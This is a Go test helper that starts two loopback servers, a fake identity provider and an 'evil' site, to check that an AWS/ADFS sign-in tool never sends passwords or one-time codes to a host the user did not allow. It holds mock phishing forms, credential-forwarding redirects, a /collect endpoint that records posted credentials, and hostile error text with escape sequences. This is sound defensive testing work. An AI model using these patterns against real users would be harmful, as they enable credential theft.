package idptest

import (
	"fmt"
	"html"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
)

// Hostile is a pair of plain-http servers on loopback that try to get a
// secret sent where the user never sent it. The IdP listens on 127.0.0.1;
// the other site ("evil") on 127.0.0.2, which is another site for
// idp.Route (an IP address is its own site). Both record every request
// they get, body included, so that a test can say what was sent where.
//
// Paths on the IdP (give IdPURL(path) as --idp-url, IdPHost as --adfs-host):
//
//	/offsite         a sign-in form whose action is on the other site
//	/redirect        a 302 to a sign-in page on the other site (relative action)
//	/get-form        a sign-in form with method GET and the password field "pw"
//	/code-offsite    a username/password form that, once posted, answers with
//	                 a code form whose action is on the other site
//	/adfs/ls/IdpInitiatedSignOn.aspx
//	                 an ADFS sign-in page whose POST (the credentials) is
//	                 answered with a 307 to the same path on the other site
//	/rejects         a sign-in page that rejects every password with
//	                 HostileErrorText (escape sequences, a bidi override, a
//	                 session id, a token, 3 MB on one line): see
//	                 HostileLoginHandler
//	/error-page      an error page with that text: HostileErrorPageHandler
//
// The other site answers a post to /collect with a page carrying the
// SAMLResponse of HostileOptions.SAMLResponse (so that a user who allowed
// it with --idp-allow-host gets signed in), and serves /login, a sign-in
// form posting to /collect.
type Hostile struct {
	idp, evil *httptest.Server
	o         HostileOptions
	rejects   HostileLoginHandler

	mu   sync.Mutex
	reqs []HostileRequest
}

// HostileOptions configures NewHostile.
type HostileOptions struct {
	// SAMLResponse makes the base64 SAMLResponse the other site hands out
	// after a post to /collect; nil means FakeSAMLResponse.
	SAMLResponse func(user string) string
}

// HostileRequest is one request either server got.
type HostileRequest struct {
	Server string // "idp" or "evil"
	Method string
	Path   string
	Query  string // raw query
	Body   string // raw body
}

// String is one line: "evil POST /collect?QUERY BODY".
func (r HostileRequest) String() string {
	s := r.Server + " " + r.Method + " " + r.Path
	if r.Query != "" {
		s += "?" + r.Query
	}
	if r.Body != "" {
		s += " " + r.Body
	}
	return s
}

// NewHostile starts both servers; they stop when the test ends.
func NewHostile(t testing.TB, o HostileOptions) *Hostile {
	t.Helper()
	h := &Hostile{o: o}
	if h.o.SAMLResponse == nil {
		h.o.SAMLResponse = FakeSAMLResponse
	}
	h.idp = serveOn(t, "127.0.0.1:0", h.recording("idp", h.serveIdP))
	h.evil = serveOn(t, "127.0.0.2:0", h.recording("evil", h.serveEvil))
	return h
}

func serveOn(t testing.TB, addr string, hf http.HandlerFunc) *httptest.Server {
	l, err := net.Listen("tcp", addr)
	if err != nil {
		t.Skipf("cannot listen on %s (the hostile server needs a second loopback address; Linux has all of 127.0.0.0/8): %v", addr, err)
	}
	srv := &httptest.Server{Listener: l, Config: &http.Server{Handler: hf}}
	srv.Start()
	t.Cleanup(srv.Close)
	return srv
}

// IdPURL is the URL of path on the IdP.
func (h *Hostile) IdPURL(path string) string { return h.idp.URL + path }

// IdPHost is the IdP's host:port, for --adfs-host http://HOST.
func (h *Hostile) IdPHost() string { return strings.TrimPrefix(h.idp.URL, "http://") }

// EvilURL is the URL of path on the other site.
func (h *Hostile) EvilURL(path string) string { return h.evil.URL + path }

// EvilHost is the other site's host name (no port): what --idp-allow-host
// takes.
func (h *Hostile) EvilHost() string { return "127.0.0.2" }

// Requests returns what both servers got, in order.
func (h *Hostile) Requests() []HostileRequest {
	h.mu.Lock()
	defer h.mu.Unlock()
	return slices.Clone(h.reqs)
}

// Reset forgets the recorded requests.
func (h *Hostile) Reset() {
	h.mu.Lock()
	h.reqs = nil
	h.mu.Unlock()
}

// Carrying returns the requests whose URL or body holds s.
func (h *Hostile) Carrying(s string) []HostileRequest {
	var out []HostileRequest
	for _, r := range h.Requests() {
		if strings.Contains(r.Query, s) || strings.Contains(r.Body, s) || strings.Contains(r.Path, s) {
			out = append(out, r)
		}
	}
	return out
}

func (h *Hostile) recording(name string, next http.HandlerFunc) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		h.mu.Lock()
		h.reqs = append(h.reqs, HostileRequest{Server: name, Method: r.Method, Path: r.URL.Path, Query: r.URL.RawQuery, Body: string(body)})
		h.mu.Unlock()
		r.Body = io.NopCloser(strings.NewReader(string(body)))
		next(w, r)
	}
}

const hostileLogin = `<!DOCTYPE html><html><head><title>Sign in</title></head><body>
<form method="%s" action="%s"><input type="hidden" name="AuthState" value="st-1">
<input name="username"><input type="password" name="%s"><button type="submit">Sign in</button></form></body></html>`

func (h *Hostile) serveIdP(w http.ResponseWriter, r *http.Request) {
	switch r.URL.Path {
	case "/offsite":
		writeHTML(w, http.StatusOK, fmt.Sprintf(hostileLogin, "post", html.EscapeString(h.EvilURL("/collect")), "password"))
	case "/rejects":
		h.rejects.ServeHTTP(w, r)
	case "/error-page":
		HostileErrorPageHandler().ServeHTTP(w, r)
	case "/redirect":
		http.Redirect(w, r, h.EvilURL("/login"), http.StatusFound)
	case "/get-form":
		writeHTML(w, http.StatusOK, fmt.Sprintf(hostileLogin, "get", "/collect", "pw"))
	case "/code-offsite":
		if r.Method == http.MethodPost {
			writeHTML(w, http.StatusOK, `<!DOCTYPE html><html><head><title>Verification</title></head><body>
<form method="post" action="`+html.EscapeString(h.EvilURL("/collect"))+`"><input name="otp" autocomplete="one-time-code"><button type="submit">Verify</button></form></body></html>`)
			return
		}
		writeHTML(w, http.StatusOK, fmt.Sprintf(hostileLogin, "post", "/code-offsite", "password"))
	case signInPath:
		if r.Method == http.MethodPost {
			http.Redirect(w, r, h.EvilURL(signInPath+"?"+r.URL.RawQuery), http.StatusTemporaryRedirect)
			return
		}
		r.URL.RawQuery = "loginToRp=urn:amazon:webservices"
		page := strings.ReplaceAll(login2016, `action="https://id.example.com/adfs/ls/idpinitiatedsignon"`, `action="`+html.EscapeString(action(r))+`"`)
		writeHTML(w, http.StatusOK, page)
	default:
		http.NotFound(w, r)
	}
}

func (h *Hostile) serveEvil(w http.ResponseWriter, r *http.Request) {
	switch r.URL.Path {
	case "/login":
		writeHTML(w, http.StatusOK, fmt.Sprintf(hostileLogin, "post", "/collect", "password"))
	case "/collect", signInPath:
		if err := r.ParseForm(); err != nil {
			http.Error(w, "bad form", http.StatusBadRequest)
			return
		}
		writeHTML(w, http.StatusOK, `<!DOCTYPE html><html><head><title>Working...</title></head><body>
<form method="post" action="https://signin.aws.amazon.com/saml"><input type="hidden" name="SAMLResponse" value="`+
			html.EscapeString(h.o.SAMLResponse(r.PostForm.Get("username")))+`"></form></body></html>`)
	default:
		http.NotFound(w, r)
	}
}
